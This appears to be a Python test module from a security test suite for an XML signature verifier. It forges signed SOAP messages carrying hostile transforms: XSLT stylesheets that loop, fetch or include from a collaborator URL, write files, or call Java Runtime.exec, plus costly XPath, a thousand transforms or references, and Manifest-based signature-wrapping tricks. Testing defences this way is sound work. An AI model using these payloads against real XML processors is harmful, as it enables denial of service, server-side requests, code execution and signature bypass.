"""A47 to A53: transforms that compute, fetch, leave something out or cost too much; Manifests; other canonical forms.

The holder signs each of them: what refuses is the rule, not a broken signature.
"""

from typing import Final

from lxml import etree

from mockserver.namespaces import DS, ENVELOPED_SIGNATURE, EXC_C14N
from tests.attacks.catalogue import attack
from tests.attacks.collaborator import collaborator
from tests.attacks.forgery import (
    C14N,
    C14N_11,
    SHA256,
    WRAPPER,
    WSU_ID,
    canonical,
    ds,
    part,
    reference_to,
    set_digest,
    set_transforms,
    sign_value,
)
from tests.conftest import Mock
from tests.forge import Forge

XPATH: Final = "http://www.w3.org/TR/1999/REC-xpath-19991116"
FILTER2: Final = "http://www.w3.org/2002/06/xmldsig-filter2"
XSLT: Final = "http://www.w3.org/TR/1999/REC-xslt-19991116"
BASE64: Final = f"{DS}base64"
DECRYPT: Final = "http://www.w3.org/2002/07/decrypt#XML"
_XSL: Final = "http://www.w3.org/1999/XSL/Transform"
_ALLOWED: Final = ("S46",)


def xpath(transform: etree._Element, expression: str, prefix_p: str = "urn:example:p") -> None:
    """Give an XPath transform its expression; `prefix_p` is what the prefix p is bound to."""
    etree.SubElement(transform, f"{{{DS}}}XPath", nsmap={"p": prefix_p}).text = expression


def filter2(
    transform: etree._Element, expression: str, prefix_p: str = "urn:example:p", kind: str = "intersect"
) -> None:
    """Give an XPath Filter 2.0 transform its expression."""
    child = etree.SubElement(transform, f"{{{FILTER2}}}XPath", Filter=kind, nsmap={"p": prefix_p})
    child.text = expression


def _transformed(
    mock: Mock, algorithms: list[str], digested: bytes | None = None
) -> tuple[Forge, list[etree._Element]]:
    """The reference to Body has these transforms; call `sign_value` when they are complete."""
    forge = mock.forge()
    reference = reference_to(forge, forge.body)
    transforms = set_transforms(reference, algorithms)
    set_digest(reference, canonical(forge.body) if digested is None else digested)
    return forge, transforms


_LOOP = '<xsl:template name="l"><xsl:call-template name="l"/></xsl:template>'
_STYLESHEETS = {
    "loop": f'{_LOOP}<xsl:template match="/"><xsl:call-template name="l"/></xsl:template>',
    "document": '<xsl:template match="/"><xsl:copy-of select="document(\'{http}\')"/></xsl:template>',
    "document-file": '<xsl:template match="/"><xsl:copy-of select="document(\'{file}\')"/></xsl:template>',
    "import": '<xsl:import href="{http}"/>',
    "include": '<xsl:include href="{file}"/>',
    "write": '<xsl:template match="/"><e:document href="{file}" xmlns:e="http://exslt.org/common"/></xsl:template>',
    "java": '<xsl:template match="/"><xsl:value-of select="r:exec(r:getRuntime(),\'true\')" '
    'xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/></xsl:template>',
    "constant": '<xsl:template match="/">constant</xsl:template>',
}


def _stylesheet(body: str) -> etree._Element:
    reached = collaborator()
    text = body.replace("{http}", reached.url()).replace("{file}", reached.file_url)
    return etree.fromstring(f'<xsl:stylesheet version="1.0" xmlns:xsl="{_XSL}">{text}</xsl:stylesheet>')


for _name, _body in _STYLESHEETS.items():

    def _xslt(mock: Mock, body: str = _body) -> Forge:
        forge, transforms = _transformed(mock, [XSLT], b"constant")
        transforms[0].append(_stylesheet(body))
        return sign_value(forge)

    def _xslt_first(mock: Mock, body: str = _body) -> Forge:
        forge, transforms = _transformed(mock, [XSLT, EXC_C14N], b"constant")
        transforms[0].append(_stylesheet(body))
        return sign_value(forge)

    attack(f"A47-{_name}", soa="SOA-01001", rules=_ALLOWED, title=f"An XSLT transform ({_name})")(_xslt)
    attack(
        f"A47-{_name}-c14n",
        soa="SOA-01001",
        rules=_ALLOWED,
        title=f"An XSLT transform ({_name}) with exclusive c14n behind it",
    )(_xslt_first)


_EXPRESSIONS = {
    "not-name": "not(ancestor-or-self::*[local-name()='LastName'])",
    "nothing": "0",
    "everything": "1",
    "costly": "count(//. | //@* | //namespace::*) = count(//. | //@* | //namespace::*[count(//.) > 0])",
    "document": "document('{http}')",
    "prefix": "self::p:x",
    "here": "not(here()/ancestor::*)",
}
for _name, _expression in _EXPRESSIONS.items():

    def _xpath(mock: Mock, expression: str = _expression) -> Forge:
        forge, transforms = _transformed(mock, [XPATH, EXC_C14N], b"")
        xpath(transforms[0], expression.replace("{http}", collaborator().url()))
        return sign_value(forge)

    attack(f"A48-xpath-{_name}", soa="SOA-01001", rules=_ALLOWED, title=f"An XPath transform ({_name})")(_xpath)

for _kind in ("intersect", "subtract", "union"):

    def _filter2(mock: Mock, kind: str = _kind) -> Forge:
        forge, transforms = _transformed(mock, [FILTER2, EXC_C14N], b"")
        filter2(transforms[0], "//*[local-name()='LastName']", kind=kind)
        return sign_value(forge)

    attack(f"A48-filter2-{_kind}", soa="SOA-01001", rules=_ALLOWED, title=f"An XPath Filter 2.0 transform ({_kind})")(
        _filter2
    )


@attack("A48-filter2-old", soa="SOA-01001", rules=_ALLOWED)
def old_filter(mock: Mock) -> Forge:
    """A filter that subtracts everything: nothing is digested"""
    forge, transforms = _transformed(mock, [FILTER2], b"")
    filter2(transforms[0], "/", kind="subtract")
    return sign_value(forge)


_OTHER = {
    "A49-base64": [BASE64],
    "A49-base64-c14n": [BASE64, EXC_C14N],
    "A49-c14n-base64": [EXC_C14N, BASE64],
    "A49-decrypt": [DECRYPT],
    "A49-decrypt-c14n": [DECRYPT, EXC_C14N],
    "A49-enveloped": [ENVELOPED_SIGNATURE, EXC_C14N],
    "A49-swa": ["http://docs.oasis-open.org/wss/oasis-wss-SwAProfile-1.1#Attachment-Content-Signature-Transform"],
    "A49-unknown": ["urn:example:transform"],
    "A49-empty": [""],
    "A49-none": [],
    "A49-c14n-twice": [EXC_C14N, EXC_C14N],
    "A49-wrong-case": [EXC_C14N.upper()],
    "A49-blank": [f" {EXC_C14N}"],
}
for _id, _algorithms in _OTHER.items():

    def _other(mock: Mock, algorithms: list[str] = _algorithms) -> Forge:
        forge, _ = _transformed(mock, algorithms)
        return sign_value(forge)

    attack(_id, soa="SOA-01001", rules=_ALLOWED, title=f"The transforms of the Body are {_id.partition('-')[2]}")(
        _other
    )


@attack("A49-no-algorithm", soa="SOA-01001", rules=_ALLOWED)
def no_algorithm(mock: Mock) -> Forge:
    """A Transform without an Algorithm"""
    forge, transforms = _transformed(mock, [EXC_C14N])
    del transforms[0].attrib["Algorithm"]
    return sign_value(forge)


@attack("A49-no-transforms", soa="SOA-01001", rules=("S54",))
def no_transforms(mock: Mock) -> Forge:
    """A Reference without Transforms (R5416), which XML Signature canonicalises inclusively"""
    forge = mock.forge()
    reference = reference_to(forge, forge.body)
    reference.remove(reference[0])
    set_digest(reference, canonical(forge.body, C14N))
    return sign_value(forge)


@attack("A49-two-groups", soa="SOA-01001", rules=("S54",))
def two_transforms_elements(mock: Mock) -> Forge:
    """A Reference with two Transforms elements, the second with an XPath"""
    forge = mock.forge()
    reference = reference_to(forge, forge.body)
    group = etree.Element(f"{{{DS}}}Transforms")
    xpath(ds(group, "Transform", Algorithm=XPATH), "0")
    reference.insert(1, group)
    return sign_value(forge)


@attack("A49-foreign", soa="SOA-01001", rules=_ALLOWED)
def foreign_transform(mock: Mock) -> Forge:
    """A foreign element stands beside the Transform"""
    forge, transforms = _transformed(mock, [EXC_C14N])
    transforms[0].addnext(etree.Element(WRAPPER))
    return sign_value(forge)


@attack("A49-parameters", soa="SOA-01001", rules=("S54",))
def parameters_of_another_transform(mock: Mock) -> Forge:
    """The exclusive c14n carries an XPath as its parameter"""
    forge, transforms = _transformed(mock, [EXC_C14N])
    xpath(transforms[0], "0")
    return sign_value(forge)


@attack("A50", soa="SOA-01001", rules=_ALLOWED)
def a_thousand_transforms(mock: Mock) -> Forge:
    """A thousand canonicalisations in one Reference"""
    forge, _ = _transformed(mock, [EXC_C14N] * 1000)
    return sign_value(forge)


@attack("A50-token", soa="SOA-01001", rules=("H06",))
def a_thousand_transforms_of_the_token(mock: Mock) -> Forge:
    """A thousand canonicalisations in the assertion's own Reference"""
    forge = mock.forge()
    group = forge.assertion.find(f"{{{DS}}}Signature/{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}Transforms")
    assert group is not None
    for _ in range(1000):
        ds(group, "Transform", Algorithm=EXC_C14N)
    return forge


@attack("A51", soa="SOA-01001", rules=("I11-references",))
def a_thousand_references(mock: Mock) -> Forge:
    """A thousand references to Body, each right"""
    forge = mock.forge()
    identifier = forge.body.get(WSU_ID, "")
    octets = canonical(forge.body)
    for _ in range(1000):
        set_digest(forge.add_reference(identifier), octets)
    return sign_value(forge)


@attack("A51-five", soa="SOA-01001", rules=("I11-references",))
def five_references(mock: Mock) -> Forge:
    """One reference more than the limit"""
    forge = mock.forge()
    for _ in range(3):
        forge.add_reference(forge.body.get(WSU_ID, ""))
    return forge.sign()


def _manifest(parent: etree._Element, forge: Forge) -> etree._Element:
    """A Manifest with a reference to Body."""
    manifest = ds(parent, "Manifest", Id="manifest")
    manifest.append(reference_to(forge, forge.body))
    return manifest


@attack("A52", soa="SOA-01001", rules=("S54",))
def manifest_in_an_object(mock: Mock) -> Forge:
    """The reference to Body stands in a Manifest, which core validation does not look into"""
    forge = mock.forge()
    manifest = _manifest(ds(forge.signature, "Object"), forge)
    reference = forge.add_reference("manifest")
    reference.set("Type", f"{DS}Manifest")
    set_digest(reference, canonical(manifest))
    return sign_value(forge)


@attack("A52-security", soa="SOA-01001", rules=("S52",))
def manifest_in_security(mock: Mock) -> Forge:
    """As A52, the Manifest a child of Security"""
    forge = mock.forge()
    manifest = _manifest(forge.security, forge)
    reference = forge.add_reference("manifest")
    set_digest(reference, canonical(manifest))
    return sign_value(forge)


@attack("A52-block", soa="SOA-01001", rules=("S52",))
def manifest_as_a_header_block(mock: Mock) -> Forge:
    """As A52, the Manifest a header block with a wsu:Id, which may be signed; the Body is then signed by nothing"""
    forge = mock.forge()
    manifest = _manifest(forge.header, forge)
    manifest.set(WSU_ID, "id-manifest")
    reference = forge.add_reference("id-manifest")
    set_digest(reference, canonical(manifest))
    return sign_value(forge)


_CANONICAL_FORMS = {
    "exclusive-with-comments": f"{EXC_C14N}WithComments",
    "inclusive": C14N,
    "inclusive-with-comments": f"{C14N}#WithComments",
    "1.1": C14N_11,
    "1.1-with-comments": f"{C14N_11}#WithComments",
}
for _name, _algorithm in _CANONICAL_FORMS.items():

    def _method(mock: Mock, algorithm: str = _algorithm) -> Forge:
        forge = mock.forge()
        part(forge, "CanonicalizationMethod").set("Algorithm", algorithm)
        return sign_value(forge, algorithm=algorithm)

    def _transform(mock: Mock, algorithm: str = _algorithm) -> Forge:
        forge, _ = _transformed(mock, [algorithm])
        set_digest(reference_to(forge, forge.body), canonical(forge.body, algorithm))
        return sign_value(forge)

    attack(f"A53-{_name}", soa="SOA-01001", rules=("S54",), title=f"SignedInfo is canonicalised otherwise: {_name}")(
        _method
    )
    attack(f"A53-{_name}-body", soa="SOA-01001", rules=_ALLOWED, title=f"The Body is canonicalised otherwise: {_name}")(
        _transform
    )


for _name, _value in {"unknown": "urn:example:c14n", "empty": "", "sha256": SHA256}.items():

    def _no_method(mock: Mock, algorithm: str = _value) -> Forge:
        forge = mock.forge()
        part(forge, "CanonicalizationMethod").set("Algorithm", algorithm)
        return sign_value(forge)

    attack(f"A53-{_name}", soa="SOA-01001", rules=("S54",), title=f"The CanonicalizationMethod is {_name}")(_no_method)
